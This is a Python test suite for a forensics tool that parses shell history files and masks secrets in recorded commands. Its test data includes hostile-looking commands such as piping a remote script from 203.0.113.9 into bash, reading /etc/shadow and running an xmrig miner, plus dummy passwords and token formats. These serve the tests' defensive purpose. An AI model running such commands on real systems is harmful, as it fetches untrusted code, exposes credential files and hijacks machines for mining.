from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tables.host.command_secrets import mask_secrets
from tables.host.shell_histories import FISH, Entered, parse_history

BASH, ZSH = "/root/.bash_history", "/root/.zsh_history"


def test_bash() -> None:
    assert list(parse_history(b"ls\n\n# a comment\nw", BASH)) == [
        Entered(1, None, "ls"),
        Entered(3, None, "# a comment"),
        Entered(4, None, "w"),
    ]


def test_bash_with_times_keeps_commands_of_many_lines_whole() -> None:
    data = b"old\n#1795400000\ncat <<E\ncurl x | sh\nE\n#1795400001\nw\n#12\nid\n"
    assert list(parse_history(data, BASH)) == [
        Entered(1, None, "old"),
        Entered(3, 1795400000, "cat <<E\ncurl x | sh\nE"),
        Entered(7, 1795400001, "w\n#12\nid"),
    ]


def test_zsh() -> None:
    data = b": 1795400000:0;echo a\\\nb\n: 1795400001:12;ls\nplain\n" + b": 1795400002:0;\x83\xa3\n"
    assert list(parse_history(data, ZSH)) == [
        Entered(1, 1795400000, "echo a\nb"),
        Entered(3, 1795400001, "ls"),
        Entered(4, None, "plain"),
        Entered(5, 1795400002, b"\x83".decode("utf-8", "surrogateescape")),
    ]


def test_fish() -> None:
    data = b"- cmd: echo a\\nb \\\\n\n  when: 1795400000\n  paths:\n    - /x\n- cmd: ls\n"
    assert list(parse_history(data, f"/root/{FISH}")) == [
        Entered(1, 1795400000, "echo a\nb \\n"),
        Entered(5, None, "ls"),
    ]


@given(st.binary(max_size=400), st.sampled_from([BASH, ZSH, f"/root/{FISH}"]))
def test_nothing_raises(data: bytes, path: str) -> None:
    for entry in parse_history(data, path):
        assert entry.line >= 1 and entry.command.strip()
    list(parse_history(b": 1:0;" + data, path))


@pytest.mark.parametrize(
    "command",
    [
        "mysql -u root -phunter2 db",
        "curl -u bob:hunter2 https://x/",
        "curl https://bob:hunter2@x/y",
        "git clone https://hunter2@github.com/a/b",
        "export DB_PASSWORD=hunter2",
        "docker run -e POSTGRES_PASSWORD='hunter2 x' pg",
        "curl -H 'Authorization: Bearer hunter2hunter2' https://x",
        'curl -d \'{"api_key": "hunter2"}\' https://x',
        "curl https://x/?token=hunter2",
        "echo hunter2 | sudo -S ls",
        "echo root:hunter2 | chpasswd",
        "sshpass -p hunter2 ssh a",
        "vault login --token hunter2",
        "redis-cli -a hunter2 ping",
        "aws configure set aws_secret_access_key hunter2",
        "echo ghp_hunter2hunter2hunter2hunter2 > x",
        "AKIAHUNTER2HUNTER2AB",
    ],
)
def test_secrets_are_masked(command: str) -> None:
    assert "hunter2" not in mask_secrets(command).lower()
    assert "***" in mask_secrets(command)


@pytest.mark.parametrize(
    "command",
    [
        "curl -fsSL http://203.0.113.9/x.sh | bash",
        "cat /etc/passwd /etc/shadow",
        "passwd bob",
        "ssh -p 2222 bob@host",
        "./xmrig -o pool.example:3333 -u 44abc -p x",
        "chmod 600 token",
    ],
)
def test_what_is_no_secret_stays(command: str) -> None:
    assert mask_secrets(command) == command


@given(st.text(max_size=300))
def test_masking_never_raises(command: str) -> None:
    mask_secrets(command)
    mask_secrets("password" * 50 + command)
